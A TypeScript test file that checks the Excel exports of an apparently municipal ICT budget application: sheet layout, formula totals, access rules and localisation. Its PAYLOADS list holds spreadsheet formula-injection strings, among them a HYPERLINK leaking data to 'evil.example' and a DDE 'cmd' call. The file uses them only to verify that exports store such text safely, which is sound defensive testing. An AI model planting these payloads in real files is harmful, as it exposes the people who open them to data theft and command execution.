import type ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { consolidationSchema, type Consolidation } from '@ikt/shared/consolidation.schema';
import { indicatorsSchema } from '@ikt/shared/indicators.schema';
import { lineItemListSchema, lineItemSchema } from '@ikt/shared/line-item.schema';
import { subProgrammeSchema, type SubProgramme } from '@ikt/shared/sub-programme.schema';
import { demoAppForFile, type TestClient } from '../helpers/app';
import { ITC_FINANCE, cycleIdWithStatus, leadOf, subProgrammesOf } from '../helpers/demo';
import { expectProblem } from '../helpers/problem';
import { XLSX, cents, evaluate, formulaOf, numberOf, openWorkbook, sheetXml } from './spreadsheets-support';

const { t, itc, lead } = demoAppForFile({ itc: ITC_FINANCE, lead: leadOf('IKSD') });
let cycleId: number;
let subProgrammes: SubProgramme[];
const YEARS = ['2027', '2028', '2029'];
const MONEY = /€/;

/** Text a spreadsheet would take for a formula, put into every kind of text field. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '+SUM(1,2)',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\t=1+1',
  '\r=2+2',
];

beforeAll(async () => {
  cycleId = await cycleIdWithStatus(itc, 'open');
  subProgrammes = await subProgrammesOf(itc, cycleId);
  const own = subProgrammes.find((s) => s.code === 'IKT.IKSD.01')!;
  for (const [i, payload] of PAYLOADS.entries()) {
    const created = await lead.post(`/api/sub-programmes/${own.id}/line-items`, {
      title: payload.trim() === payload ? payload : `${payload.trim()} (${i})`,
      description: payload,
      ekkCode: '2251',
      costNature: 'maintenance',
      priority: 'low',
      unit: payload.trim() === payload ? payload.slice(0, 40) : null,
      businessNeed: payload,
      legalBasis: payload,
      impactIfCut: payload,
      calculationBasis: payload,
      amounts: { '2027': '0.01' },
    });
    expect(created.statusCode, created.body).toBe(201);
  }
});

async function consolidation(by: string): Promise<Consolidation> {
  return consolidationSchema.parse((await itc.get(`/api/cycles/${cycleId}/consolidation?by=${by}`)).json());
}

async function download(client: TestClient, url: string): Promise<Buffer> {
  const response = await client.get(url);
  expect(response.statusCode, response.body).toBe(200);
  expect(response.headers['content-type']).toBe(XLSX);
  expect(response.headers['content-disposition']).toMatch(/^attachment; filename="[^"]+\.xlsx"/);
  expect(Number(response.headers['content-length'])).toBe(response.rawPayload.length);
  return response.rawPayload;
}

/** The rows under the heading (row 5) up to the total row, by their first cell. */
function dataRows(sheet: ExcelJS.Worksheet, totalLabel: string) {
  const rows: ExcelJS.Row[] = [];
  for (let r = 6; r <= sheet.rowCount; r++) {
    const row = sheet.getRow(r);
    if (row.getCell(1).value === totalLabel) return { rows, total: row };
    rows.push(row);
  }
  throw new Error(`no total row in ${sheet.name}`);
}

/** Every SUM/SUMIFS/reference formula of a sheet computes, from its cells, its cached result. */
function expectFormulasHold(workbook: ExcelJS.Workbook, sheet: ExcelJS.Worksheet): number {
  let checked = 0;
  sheet.eachRow((row) =>
    row.eachCell((cell) => {
      const formula = formulaOf(cell);
      if (!formula || formula.startsWith('IF(')) return;
      expect(cents(evaluate(workbook, sheet, formula)), `${sheet.name}!${cell.address} ${formula}`).toBe(
        cents(numberOf(cell)),
      );
      checked++;
    }),
  );
  return checked;
}

describe('the consolidated workbook', () => {
  it('has the six sheets, a title block, properties, frozen headings, filters and A4 landscape print setup', async () => {
    const workbook = await openWorkbook(await download(itc, `/api/cycles/${cycleId}/export.xlsx`));
    expect(workbook.worksheets.map((s) => s.name)).toEqual([
      'Kopsavilkums',
      'Pēc EKK',
      'Pēc mērķiem',
      'Pozīcijas',
      'Rādītāji',
      'Pilnās izmaksas',
    ]);
    expect(workbook.creator).toBe('IKT budžets');
    expect(workbook.lastModifiedBy).toBe('ITC finanšu speciāliste');
    expect(workbook.title).toContain('IKT budžets 2027–2029');
    expect(workbook.subject).toContain('2027');
    for (const sheet of workbook.worksheets) {
      expect(sheet.getCell('A1').value, sheet.name).toContain('IKT budžets 2027–2029');
      expect(String(sheet.getCell('A2').value)).toContain('Atvērts');
      expect(String(sheet.getCell('A3').value)).toContain('ITC finanšu speciāliste');
      expect(sheet.views[0], sheet.name).toMatchObject({ state: 'frozen', ySplit: 5 });
      expect(sheet.autoFilter, sheet.name).toMatch(/^A5:[A-Z]+\d+$/);
      expect(sheet.pageSetup, sheet.name).toMatchObject({ paperSize: 9, orientation: 'landscape', fitToWidth: 1 });
      expect(sheet.pageSetup.printTitlesRow, sheet.name).toBe('5:5');
      expect(Math.max(...sheet.columns.map((c) => c.width ?? 0)), sheet.name).toBeGreaterThanOrEqual(40);
    }
  });

  it('writes every total as a live formula whose cached result is the API total to the cent', async () => {
    const buffer = await download(itc, `/api/cycles/${cycleId}/export.xlsx`);
    const workbook = await openWorkbook(buffer);
    const [bySubProgramme, byEkk, byGoal] = await Promise.all(
      ['sub_programme', 'ekk', 'goal'].map((by) => consolidation(by)),
    );

    const summary = workbook.getWorksheet('Kopsavilkums')!;
    const { rows, total } = dataRows(summary, 'Kopā');
    expect(rows.map((r) => r.getCell(1).value)).toEqual(bySubProgramme!.rows.map((r) => r.key));
    for (const row of rows) {
      const expected = bySubProgramme!.rows.find((r) => r.key === row.getCell(1).value)!;
      YEARS.forEach((year, i) => {
        const cell = row.getCell(5 + i);
        expect(formulaOf(cell)).toMatch(/^SUMIFS\(/);
        expect(cell.numFmt).toMatch(MONEY);
        expect(cents(numberOf(cell)), `${cell.address}`).toBe(expected.amounts[year]);
      });
      expect(cents(numberOf(row.getCell(8)))).toBe(expected.previousYear);
    }
    YEARS.forEach((year, i) => {
      const cell = total.getCell(5 + i);
      expect(formulaOf(cell)).toMatch(/^SUM\(/);
      expect(cell.numFmt).toMatch(MONEY);
      expect(cents(numberOf(cell))).toBe(bySubProgramme!.total.amounts[year]);
    });
    expect(cents(numberOf(total.getCell(8)))).toBe(bySubProgramme!.total.previousYear);

    const ekk = dataRows(workbook.getWorksheet('Pēc EKK')!, 'Kopā');
    expect(ekk.rows.map((r) => r.getCell(1).value)).toEqual(byEkk!.rows.map((r) => r.key));
    for (const row of ekk.rows) {
      const expected = byEkk!.rows.find((r) => r.key === row.getCell(1).value)!;
      YEARS.forEach((year, i) => expect(cents(numberOf(row.getCell(5 + i)))).toBe(expected.amounts[year]));
    }
    const subtotal = ekk.rows.find((r) => r.getCell(1).value === '2250')!;
    expect(formulaOf(subtotal.getCell(5))).toMatch(/^SUMIFS\(\$?E\$?6:/);
    YEARS.forEach((year, i) => expect(cents(numberOf(ekk.total.getCell(5 + i)))).toBe(byEkk!.total.amounts[year]));

    const goals = dataRows(workbook.getWorksheet('Pēc mērķiem')!, 'Kopā');
    expect(goals.rows.map((r) => r.getCell(1).value ?? '')).toEqual(byGoal!.rows.map((r) => r.key));
    for (const row of goals.rows) {
      const expected = byGoal!.rows.find((r) => r.key === (row.getCell(1).value ?? ''))!;
      YEARS.forEach((year, i) => expect(cents(numberOf(row.getCell(3 + i)))).toBe(expected.amounts[year]));
    }
    YEARS.forEach((year, i) => expect(cents(numberOf(goals.total.getCell(3 + i)))).toBe(byGoal!.total.amounts[year]));

    const items = workbook.getWorksheet('Pozīcijas')!;
    const headings = (items.getRow(5).values as unknown[]).slice(1);
    YEARS.forEach((year) => {
      const cell = items.getRow(4).getCell(headings.indexOf(`${year}, EUR`) + 1);
      expect(formulaOf(cell)).toMatch(/^SUMIFS\(/);
      expect(cents(numberOf(cell))).toBe(bySubProgramme!.total.amounts[year]);
    });
    const itemCount = subProgrammes.reduce(
      async (sum, s) =>
        (await sum) + lineItemListSchema.parse((await itc.get(`/api/sub-programmes/${s.id}/line-items`)).json()).length,
      Promise.resolve(0),
    );
    expect(items.rowCount - 5).toBe(await itemCount);
    const amountCell = items.getRow(6).getCell(headings.indexOf('2027, EUR') + 1);
    expect(typeof amountCell.value).toBe('number');
    expect(amountCell.numFmt).toMatch(MONEY);
    expect(items.getRow(6).getCell(headings.indexOf('Nosaukums') + 1).alignment?.wrapText).toBe(true);

    const indicators = indicatorsSchema.parse((await itc.get(`/api/cycles/${cycleId}/indicators`)).json());
    const sheet = workbook.getWorksheet('Rādītāji')!;
    let ictRow: ExcelJS.Row | undefined;
    sheet.eachRow((row) => {
      if (String(row.getCell(1).value).startsWith('IKT budžets')) ictRow = row;
    });
    expect(cents(numberOf(ictRow!.getCell(2)))).toBe(indicators.ictBudgetTotal);

    // And each of those formulas computes its cached result from the cells it names.
    let checked = 0;
    for (const worksheet of workbook.worksheets) checked += expectFormulasHold(workbook, worksheet);
    expect(checked).toBeGreaterThan(150);
  });

  it('answers in English with ?lang=en', async () => {
    const workbook = await openWorkbook(await download(itc, `/api/cycles/${cycleId}/export.xlsx?lang=en`));
    expect(workbook.worksheets.map((s) => s.name)).toEqual([
      'Summary',
      'By EKK',
      'By goal',
      'Items',
      'Indicators',
      'Full cost',
    ]);
    expect(workbook.getWorksheet('Summary')!.getCell('A1').value).toContain('Consolidated ICT budget');
    expect(workbook.getWorksheet('Items')!.getCell('E5').value).toBe('Title');
    for (const worksheet of workbook.worksheets) expectFormulasHold(workbook, worksheet);
  });

  it('is for those who read the whole cycle: a lead gets 404, the Finance Department once it is past open', async () => {
    expectProblem(await lead.get(`/api/cycles/${cycleId}/export.xlsx`), 404);
    const fd = await t.signIn('fd@riga.example');
    expectProblem(await fd.get(`/api/cycles/${cycleId}/export.xlsx`), 404);
    const previous = ((await fd.get('/api/cycles')).json() as { id: number; status: string }[]).find(
      (c) => c.status === 'approved',
    )!;
    const workbook = await openWorkbook(await download(fd, `/api/cycles/${previous.id}/export.xlsx`));
    expect(workbook.worksheets).toHaveLength(6);
    const council = await t.signIn('council@riga.example');
    await download(council, `/api/cycles/${cycleId}/export.xlsx`);
    expectProblem(await itc.get('/api/cycles/999999/export.xlsx'), 404);
    expectProblem(await itc.get('/api/cycles/abc/export.xlsx'), 400);
  });

  it('writes text that looks like a formula as text, never as a formula', async () => {
    const buffer = await download(itc, `/api/cycles/${cycleId}/export.xlsx`);
    const xml = await sheetXml(buffer, 'Pozīcijas');
    const formulas = [...xml.matchAll(/<f>([^<]*)<\/f>/g)].map((m) => m[1]!);
    expect(formulas.length).toBeGreaterThan(0);
    for (const formula of formulas) {
      expect(formula).not.toMatch(/HYPERLINK|evil|calc|SUM\(1/);
    }
    const workbook = await openWorkbook(buffer);
    const sheet = workbook.getWorksheet('Pozīcijas')!;
    const headings = (sheet.getRow(5).values as unknown[]).slice(1);
    const descriptions: unknown[] = [];
    sheet.eachRow((row, number) => {
      if (number > 5) descriptions.push(row.getCell(headings.indexOf('Apraksts') + 1).value);
    });
    for (const payload of PAYLOADS) {
      // Stored as a string cell; XML turns a lone CR into a line break, which is all that changes.
      expect(descriptions).toContain(payload.replace('\r', '\n'));
    }

    // The template too: the institution downloads and reopens it.
    const own = subProgrammes.find((s) => s.code === 'IKT.IKSD.01')!;
    const template = await sheetXml(await download(lead, `/api/sub-programmes/${own.id}/export.xlsx`), 'Pozīcijas');
    for (const [, formula] of template.matchAll(/<f>([^<]*)<\/f>/g)) {
      expect(formula).not.toMatch(/HYPERLINK|evil|calc|SUM\(1/);
    }
    expect(template).toContain('&quot;http://evil.example/?leak=&quot;');
  });
});

describe('the sub-programme workbook (the import template)', () => {
  it('has the item sheet with id and version, drop-downs, instructions and lists; its totals are the API’s', async () => {
    const own = subProgrammeSchema.parse(
      (await lead.get(`/api/sub-programmes/${subProgrammes.find((s) => s.code === 'IKT.IKSD.01')!.id}`)).json(),
    );
    const buffer = await download(lead, `/api/sub-programmes/${own.id}/export.xlsx`);
    const workbook = await openWorkbook(buffer);
    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Pozīcijas', 'Norādījumi', 'Saraksti']);
    const sheet = workbook.getWorksheet('Pozīcijas')!;
    const headings = (sheet.getRow(5).values as unknown[]).slice(1) as string[];
    expect(headings.slice(0, 3)).toEqual(['ID', 'Versija', 'Nosaukums']);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 5 });

    const items = lineItemListSchema.parse((await lead.get(`/api/sub-programmes/${own.id}/line-items`)).json());
    const ids: unknown[] = [];
    sheet.eachRow((row, number) => {
      if (number > 5) ids.push(row.getCell(1).value);
    });
    expect(ids).toEqual(items.map((i) => i.id));
    expect(sheet.getRow(6).getCell(2).value).toBe(items[0]!.version);
    YEARS.forEach((year) => {
      const cell = sheet.getRow(4).getCell(headings.indexOf(`${year}, EUR`) + 1);
      expect(cents(numberOf(cell))).toBe(own.totals[year]);
      expect(cents(evaluate(workbook, sheet, formulaOf(cell)!))).toBe(own.totals[year]);
    });

    const xml = await sheetXml(buffer, 'Pozīcijas');
    const lists = [
      ...xml.matchAll(/<dataValidation type="list"[^>]*sqref="([A-Z]+)6:[A-Z]+\d+"><formula1>([^<]+)<\/formula1>/g),
    ];
    const columns = lists.map((m) => headings[m[1]!.charCodeAt(0) - 65]);
    expect(columns).toEqual(
      expect.arrayContaining([
        'EKK kods',
        'Izmaksu raksturs',
        'Prioritāte',
        'Mērķi',
        'IKT pakalpojums',
        'Informācijas sistēma',
      ]),
    );
    for (const [, , formula] of lists) expect(formula).toMatch(/^&apos;Saraksti&apos;!\$[A-Z]+\$2:\$[A-Z]+\$\d+$/);
    const saraksti = workbook.getWorksheet('Saraksti')!;
    expect(saraksti.getCell('A1').value).toBe('EKK kods');
    expect(saraksti.getCell('D2').value).toBe('Uzturēšana');
    expect(String(workbook.getWorksheet('Norādījumi')!.getCell('A5').value)).toContain('Kā aizpildīt');
  });

  it('is refused to a lead of another institution (404) and for an unknown sub-programme', async () => {
    const other = subProgrammes.find((s) => s.code === 'IKT.LD.01')!;
    expectProblem(await lead.get(`/api/sub-programmes/${other.id}/export.xlsx`), 404);
    expectProblem(await lead.get('/api/sub-programmes/999999/export.xlsx'), 404);
    await download(itc, `/api/sub-programmes/${other.id}/export.xlsx?lang=en`);
  });

  it('keeps the item exactly as the API has it (a created item round-trips its values)', async () => {
    const own = subProgrammes.find((s) => s.code === 'IKT.IKSD.01')!;
    const created = lineItemSchema.parse(
      (
        await lead.post(`/api/sub-programmes/${own.id}/line-items`, {
          title: 'Precīzas summas',
          ekkCode: '5238',
          costNature: 'development',
          priority: 'high',
          goalCodes: ['M1', 'M7'],
          quantity: '12.5',
          unit: 'gab.',
          unitPrice: '999999999999.99',
          amounts: { '2027': '123456789012.34', '2028': '0.01', '2029': '100' },
        })
      ).json(),
    );
    const workbook = await openWorkbook(await download(lead, `/api/sub-programmes/${own.id}/export.xlsx`));
    const sheet = workbook.getWorksheet('Pozīcijas')!;
    const headings = (sheet.getRow(5).values as unknown[]).slice(1) as string[];
    let row: ExcelJS.Row | undefined;
    sheet.eachRow((r) => {
      if (r.getCell(1).value === created.id) row = r;
    });
    const cell = (heading: string) => row!.getCell(headings.indexOf(heading) + 1);
    expect(cents(numberOf(cell('2027, EUR')))).toBe('123456789012.34');
    expect(cents(numberOf(cell('Vienības cena, EUR')))).toBe('999999999999.99');
    expect(cell('Mērķi').value).toBe('M1; M7');
    expect(cell('Izmaksu raksturs').value).toBe('Attīstība');
    expect(cell('Prioritāte').value).toBe('Augsta');
    expect(cell('Daudzums').value).toBe(12.5);
  });
});
